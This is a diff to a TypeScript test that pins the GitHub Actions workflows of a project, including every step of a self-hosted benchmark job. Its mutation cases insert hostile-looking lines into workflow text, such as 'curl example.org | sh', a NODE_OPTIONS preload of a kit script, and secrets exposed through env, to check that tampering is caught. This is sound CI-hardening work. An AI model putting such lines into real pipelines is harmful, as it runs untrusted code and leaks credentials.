@@ -1,11 +1,12 @@
-/** What starts each workflow, and what each job holds, installs and may take in time: pinned here, for no linter asks that. */
+/** What starts each workflow, what its jobs hold, and each step of the job on a benchmark host: pinned here, for no linter asks that. */
 import assert from 'node:assert/strict'
 import { globSync, readFileSync } from 'node:fs'
 import { join, resolve } from 'node:path'
 import { test } from 'node:test'
 import { parse } from 'yaml'
 
-type Job = Record<string, unknown> & { permissions?: Record<string, string>; steps: { run?: string }[] }
+type Step = { if?: string; env?: object; 'working-directory'?: string; uses?: string; with?: object; run?: string }
+type Job = Record<string, unknown> & { permissions?: Record<string, string>; steps: Step[] }
 type Workflow = { on: Record<string, unknown>; permissions: unknown; jobs: Record<string, Job> }
 
 const folder = resolve(import.meta.dirname, '../../.github/workflows')
@@ -22,9 +23,17 @@ function describeJob(job: Job): string {
   return [...facts, ...(job.if ? [`if ${job.if}`] : [])].join('; ')
 }
 
-/** By workflow and job, with what starts it; and of all of them, what may be said nowhere or once. */
+/** On which condition, with which variables, where and what. */
+const describeStep = ({ if: condition, env = {}, 'working-directory': at, uses, with: input, run }: Step) => {
+  const action = uses && `${uses.replace(/@[0-9a-f]{40}$/, '')} ${JSON.stringify(input ?? {})}`
+  return [condition && `if ${condition}`, ...Object.keys(env), at && `${at}:`, action ?? run].filter(Boolean).join(' ')
+}
+
+/** Of all workflows, and of the one job in which programs of strangers run on a machine of ours. */
 function factsOf(files: Record<string, string>) {
   const workflows = Object.entries(files).map(([name, text]) => [name, parse(text) as Workflow] as const)
+  const { jobs } = parse(files['bench.yml'] ?? '') as Workflow
+  const { steps = [], ...host } = jobs.measure ?? {}
   return {
     jobs: Object.fromEntries(
       workflows.map(([name, { on, jobs }]) => {
@@ -40,17 +49,20 @@ function factsOf(files: Record<string, string>) {
       text =>
         text.match(/\bsecrets\b|continue-on-error|zizmor: ignore\S*|actions\/cache|(?<!manager-)\bcache: /gi) ?? [],
     ),
+    host: [JSON.stringify(host), ...steps.map(describeStep), [...new Set(steps.flatMap(Object.keys))].join()],
+    taken: jobs.plan?.steps.map(describeStep).filter(step => step.includes('gh run')),
   }
 }
 
 const PLANNED = `if \${{ !cancelled() && needs.plan.result == 'success' }}`
 const QUIET = 'npm ci --omit=dev --ignore-scripts'
+const HOST = `\${{ matrix.host }}`
 const PINNED: ReturnType<typeof factsOf> = {
   jobs: {
     'bench.yml': {
       on: '["workflow_dispatch"]',
       plan: `15 min; ubuntu-24.04; contents read; actions read; ${QUIET}; if github.ref == 'refs/heads/main'`,
-      measure: `1440 min; self-hosted,bench-\${{ matrix.host }}; in {"name":"bench"}`,
+      measure: `1440 min; self-hosted,bench-${HOST}; in {"name":"bench"}`,
       publish: `30 min; ubuntu-24.04; contents write; pull-requests write; ${QUIET}; ${PLANNED}`,
     },
     'build.yml': {
@@ -83,6 +95,31 @@ const PINNED: ReturnType<typeof factsOf> = {
   tops: ['name,on,permissions,concurrency,jobs'],
   permissions: ['{}'],
   unsafe: ['zizmor: ignore[self-hosted-runner]'],
+  host: [
+    JSON.stringify({
+      name: `Measure on ${HOST}`,
+      needs: 'plan',
+      strategy: { 'fail-fast': false, matrix: { host: `\${{ fromJSON(needs.plan.outputs.hosts) }}` } },
+      'runs-on': ['self-hosted', `bench-${HOST}`],
+      'timeout-minutes': 1440,
+      permissions: {},
+      environment: { name: 'bench' },
+      concurrency: { group: `bench-host-${HOST}`, 'cancel-in-progress': false, queue: 'max' },
+      env: { HOST, DIGEST: `\${{ needs.plan.outputs.digest }}` },
+    }),
+    'rm -rf kit run checkout code builds',
+    'actions/download-artifact {"name":"code","path":"code"}',
+    'actions/download-artifact {"name":"kit","path":"kit"}',
+    'echo "$DIGEST  code/code.tar" | sha256sum --check --strict',
+    'mkdir -p checkout run && tar --extract --no-same-owner --file code/code.tar --directory checkout',
+    'checkout: npm run unpack-bundle -- --kit ../kit/kit.tar --out ../builds',
+    'checkout: npm run bench -- --host "$HOST" --kit ../builds/kit.json --data ../run --sandbox || test $? -eq 1',
+    `actions/upload-artifact {"name":"run-${HOST}","path":"run/raw/","retention-days":30}`,
+    'run,uses,with,working-directory',
+  ],
+  taken: [
+    'GH_TOKEN gh run download --name kit --dir kit "$(gh run list --workflow build.yml --branch builds --commit "$GITHUB_SHA" --status success --limit 1 --json databaseId --jq \'.[0].databaseId\')"',
+  ],
 }
 
 test('each workflow starts, holds and installs what is pinned', () => assert.deepEqual(factsOf(texts), PINNED))
@@ -90,18 +127,21 @@ test('each workflow starts, holds and installs what is pinned', () => assert.dee
 for (const [fact, name, from, to] of [
   ['jobs', 'pull-request.yml', '    timeout-minutes: 10\n', ''],
   ['jobs', 'pull-request.yml', '  pull_request:\n', '  pull_request_target:\n'],
-  ['jobs', 'publish.yml', 'on:\n', 'on:\n  pull_request:\n'],
-  ['jobs', 'publish.yml', '[main]', "['**']"],
   ['jobs', 'publish.yml', '    permissions:\n      contents: read\n', ''],
-  ['jobs', 'bench.yml', ' --ignore-scripts', ''],
-  ['jobs', 'build.yml', 'runs-on: ubuntu-24.04', 'runs-on: [self-hosted]'],
+  ['jobs', 'bench.yml', "    if: github.ref == 'refs/heads/main'\n", ''],
+  ['jobs', 'build.yml', "refs/heads/builds'", "refs/heads/main'"],
   ['tops', 'build.yml', 'jobs:\n', 'env: { NODE_OPTIONS: --import=./a.mjs }\njobs:\n'],
   ['permissions', 'nightly.yml', 'permissions: {}', 'permissions: write-all'],
   ['unsafe', 'pull-request.yml', 'jobs:\n', `env:\n  KEY: \${{ secrets.KEY }}\njobs:\n`],
   ['unsafe', 'pull-request.yml', '      - run: npm ci\n', '      - run: npm ci\n        continue-on-error: true\n'],
-  ['unsafe', 'bench.yml', 'ignore[self-hosted-runner]', 'ignore'],
   ['unsafe', 'publish.yml', '      - run: npm ci\n', '      - uses: actions/cache/restore@v4\n      - run: npm ci\n'],
-  ['jobs', 'build.yml', "refs/heads/builds'", "refs/heads/main'"],
+  ['host', 'bench.yml', '      name: bench\n', '      name: other\n'],
+  ['host', 'bench.yml', '      DIGEST:', '      NODE_OPTIONS: --import=./kit/a.mjs\n      DIGEST:'],
+  ['host', 'bench.yml', '    permissions: {}\n', '    permissions: {}\n    if: always()\n'],
+  ['host', 'bench.yml', 'working-directory: checkout\n', 'working-directory: checkout\n        shell: sh\n'],
+  ['host', 'bench.yml', '- run: rm', '- run: curl example.org | sh\n      - run: rm'],
+  ['host', 'bench.yml', ' --sandbox', ''],
+  ['taken', 'bench.yml', ' --branch builds', ''],
 ] as const)
   test(`${fact} of ${name} with ${JSON.stringify(to)} for ${JSON.stringify(from)} is seen`, () => {
     const changed = texts[name]?.replace(from, to) ?? ''
